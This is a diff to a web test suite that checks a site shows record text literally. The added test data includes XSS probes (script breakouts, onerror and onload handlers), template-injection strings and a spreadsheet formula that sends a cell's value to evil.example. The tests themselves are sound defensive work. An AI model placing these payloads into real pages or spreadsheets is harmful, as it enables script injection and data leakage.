@@ -31,7 +31,7 @@ test('its records are sound: nothing of it is refused before it is shown', () =>
 
 test('its pages hold to the policy and to the limits of size', () => {
   const { problems, pageCount } = verifySite(dist)
-  expect(pageCount).toBeGreaterThan(30)
+  expect(pageCount).toBeGreaterThan(25)
   expect(problems).toEqual([])
 })
 
@@ -74,6 +74,9 @@ describe('texts are shown as they stand in the records', () => {
         `The summary has <script>alert('summary')</script> in it. It also has {{7*7}}, \${alert(1)} and`,
         '<!-- what looks like a comment -->',
         '=HYPERLINK("https://evil.example/?"&A1,"click")',
+        `</option><script>alert('type')</script>`,
+        `</dt><script>alert('side')</script>`,
+        "One of the ${alert('events')}",
       ],
     ],
     [
@@ -107,11 +110,29 @@ describe('texts are shown as they stand in the records', () => {
       ['{{7*7}} ${7*7} {7*7} <%= 7*7 %> #{7*7}', '$&', "$'", '\\x3cscript\\x3e'],
     ],
     ['organizations/', ['"\'`><&amp;&lt;']],
-    ['places/', [`<svg onload=alert('place')>`, `in </a></li><script>alert('within')</script>`]],
+    [
+      'places/',
+      [
+        `<marquee onstart=alert('lede')>`,
+        `<svg onload=alert('place')>`,
+        `in </a></li><script>alert('within')</script>`,
+      ],
+    ],
     ['changes/', [`</p><script>alert('why')</script>`]],
     ['conflicts/', [`<u onclick=alert('claim')>one</u>`]],
-    ['founding/', [`</title><script>alert('source')</script>`]],
-    ['', [`<script>alert('title')</script> opens & closes`]],
+    [
+      'founding/',
+      [`</title><script>alert('source')</script>`, `<i onmouseover=alert('meaning')>`, '=1+1'],
+    ],
+    [
+      '',
+      [
+        `<script>alert('title')</script> opens & closes`,
+        `<img src=x onerror=alert('heading')>`,
+        `<b onclick=alert('mark')>`,
+        `events of the </footer><script>alert('items')</script>`,
+      ],
+    ],
   ])('/%s', async (path, texts) => {
     const { page } = await site.open(path)
     const main = spaced((await page.getByRole('main').textContent())!)
@@ -124,6 +145,9 @@ test('titles and descriptions of pages are text, too', async () => {
   expect(await page.title()).toMatch(/^<\/title><script>alert\('source'\)/)
   const described = await page.locator('meta[name=description]').getAttribute('content')
   expect(described).toContain(`</title><script>alert('source')</script>, <img src=x onerror=alert`)
+  await page.goto(site.url())
+  expect(await page.title()).toBe(`</title><script>alert('archive')</script>`)
+  expect(await page.locator('.site-name').textContent()).toBe(await page.title())
 })
 
 test.each([
